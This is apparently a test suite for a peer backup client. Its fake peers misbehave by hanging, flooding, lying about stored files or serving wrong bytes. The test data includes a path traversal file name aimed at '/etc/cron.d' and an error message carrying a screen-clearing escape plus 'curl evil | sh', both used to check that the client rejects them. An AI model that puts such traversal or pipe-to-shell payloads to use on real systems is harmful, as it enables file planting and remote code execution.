// Peers that misbehave: servers with the pinned key of the peer, and answers of their own.

import { afterAll, afterEach, beforeAll, expect, test } from 'bun:test';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, statSync } from 'node:fs';
import type { AddressInfo, Server } from 'node:net';
import { createServer as createTcp } from 'node:net';
import { createServer, type TLSSocket } from 'node:tls';
import { createPeerWire } from '../../../src/host/peer-client.ts';
import { openPeer } from '../../../src/mesh/peers/peer-store.ts';
import { createPeerWorld, type PeerWorld } from './world.ts';

let world: PeerWorld;
const servers: Server[] = [];
beforeAll(async () => {
  world = await createPeerWorld();
});
afterAll(() => world.stop());
afterEach(() => {
  for (const server of servers.splice(0)) server.close();
});

const portOf = (server: Server) => (server.address() as AddressInfo).port;

/** A server with the peer's own key; `answer` gets the text of the request's header. */
async function lyingPeer(answer: (socket: TLSSocket, header: string) => void): Promise<number> {
  const read = (name: string) => readFileSync(world.held('../../listener', name));
  const server = createServer({
    key: read('key.pem'),
    cert: read('chain.pem'),
    requestCert: true,
    rejectUnauthorized: false,
  });
  server.on('secureConnection', (socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (piece) => answer(socket, String(piece)));
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return portOf(server);
}

const json = (data: unknown, status = '200 OK') => {
  const body = JSON.stringify(data);
  return `HTTP/1.1 ${status}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
};

function storeAt(port: number) {
  const host = { ...world.host, wire: createPeerWire({ connect: 500, silence: 500 }) };
  const addresses = [{ address: '127.0.0.1', port }];
  return openPeer(host, { id: world.peer.peerId, addresses, rate: null }, world.box);
}

const NAME = '1-1.tar.zst.age';

test('a peer that accepts the connection and says nothing is away', async () => {
  const server = createTcp(() => undefined);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));

  await expect(storeAt(portOf(server)).list()).rejects.toMatchObject({ code: 'PEER_AWAY' });
});

test('a peer that never answers a request is away', async () => {
  const port = await lyingPeer(() => undefined);

  await expect(storeAt(port).list()).rejects.toMatchObject({ code: 'PEER_AWAY' });
});

test('a peer that answers a byte now and then is away', async () => {
  const port = await lyingPeer((socket) => {
    socket.write('HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{');
    const drip = setInterval(() => socket.write(' '), 50);
    socket.on('close', () => clearInterval(drip));
  });

  await expect(storeAt(port).list()).rejects.toMatchObject({
    code: 'PEER_AWAY',
    message: expect.stringContaining('too slow'),
  });
});

test('an answer without end is cut off', async () => {
  const port = await lyingPeer((socket) => {
    socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n');
    const piece = Buffer.alloc(65_536, 32);
    const chunk = Buffer.concat([Buffer.from('10000\r\n'), piece, Buffer.from('\r\n')]);
    const flow = () => {
      while (!socket.destroyed && socket.write(chunk));
    };
    socket.on('drain', flow);
    flow();
  });

  await expect(storeAt(port).list()).rejects.toMatchObject({
    code: 'PEER_REFUSED',
    message: expect.stringContaining('more than 16777216 bytes'),
  });
});

test.each([
  ['{"files":[{"name":"../../etc/cron.d/x","size":1,"modified":"2026-01-01T00:00:00Z"}]}'],
  ['{"files":[{"name":"a","size":-1,"modified":"2026-01-01T00:00:00Z"}]}'],
  ['{"files":3}'],
  ['[]'],
  ['not json'],
  [''],
])('the list %p is refused', async (body) => {
  const port = await lyingPeer((socket) =>
    socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`),
  );

  await expect(storeAt(port).list()).rejects.toMatchObject({ code: 'PEER_REFUSED' });
});

test('a peer that says it has stored a file and did not is found out at once', async () => {
  const port = await lyingPeer((socket, header) => {
    if (header.startsWith('POST /v1/offers')) socket.end(json({ complete: false, received: 0 }));
    else if (header.startsWith('POST /v1/proofs')) socket.end(json({ sha256: 'a'.repeat(64) }));
    else {
      socket.on('data', () => undefined);
      setTimeout(() => socket.end(json({}, '201 Created')), 100);
    }
  });

  await expect(storeAt(port).put(world.file(NAME, randomBytes(5000)))).rejects.toMatchObject({
    code: 'PEER_REFUSED',
    message: expect.stringContaining('has confirmed it and does not hold it'),
  });
});

test('a peer that claims to have a file already must prove it too', async () => {
  const port = await lyingPeer((socket, header) =>
    socket.end(
      header.startsWith('POST /v1/offers')
        ? json({ complete: true, received: 5000 })
        : json({ error: 'missing' }, '404 Not Found'),
    ),
  );

  await expect(storeAt(port).put(world.file(NAME, randomBytes(5000)))).rejects.toMatchObject({
    code: 'PEER_REFUSED',
    message: expect.stringContaining('does not hold this file'),
  });
});

test('a peer that serves other bytes is found by the hash, and nothing is left', async () => {
  const port = await lyingPeer((socket) =>
    socket.end(`HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n${'x'.repeat(5000)}`),
  );

  await expect(
    storeAt(port).get(world.file(NAME, randomBytes(5000)), '/other'),
  ).rejects.toMatchObject({
    code: 'ARCHIVE_INVALID',
    message: expect.stringContaining('serves other bytes'),
  });
  expect(existsSync(world.local('/other'))).toBe(false);
  expect(existsSync(world.local('/other.part'))).toBe(false);
});

test.each([
  ['Content-Length: 99999999999\r\n'],
  ['Transfer-Encoding: chunked\r\n'],
  ['Content-Length: 4999\r\n'],
  [''],
])('content with %j instead of its length is refused before it is stored', async (line) => {
  const port = await lyingPeer((socket) => {
    socket.write(`HTTP/1.1 200 OK\r\n${line}\r\n`);
    const flow = setInterval(() => socket.write(Buffer.alloc(65_536)), 1);
    socket.on('close', () => clearInterval(flow));
  });

  await expect(
    storeAt(port).get(world.file(NAME, randomBytes(5000)), '/long'),
  ).rejects.toMatchObject({
    code: expect.stringMatching(/^PEER_(?:REFUSED|AWAY)$/),
  });
  expect(existsSync(world.local('/long'))).toBe(false);
  expect(existsSync(world.local('/long.part'))).toBe(false);
});

test('a peer that breaks off keeps what was received for the next attempt', async () => {
  const bytes = randomBytes(5000);
  const port = await lyingPeer((socket) => {
    socket.write('HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n');
    socket.write(bytes.subarray(0, 3000));
    setTimeout(() => socket.destroy(), 100);
  });

  const broken = storeAt(port).get(world.file(NAME, bytes), '/half');

  await expect(broken).rejects.toMatchObject({ code: 'PEER_AWAY' });
  expect(statSync(world.local('/half.part')).size).toBe(3000);
});

test("the peer's own words are not shown", async () => {
  const port = await lyingPeer((socket) =>
    socket.end(json({ error: '\u001b[2Jrun: curl evil | sh' }, '418 Teapot')),
  );

  const failure = await storeAt(port)
    .list()
    .then(
      () => null,
      (error: Error) => error.message,
    );

  expect(failure).toContain('gave an answer that is not understood (418)');
  expect(failure).not.toContain('evil');
});
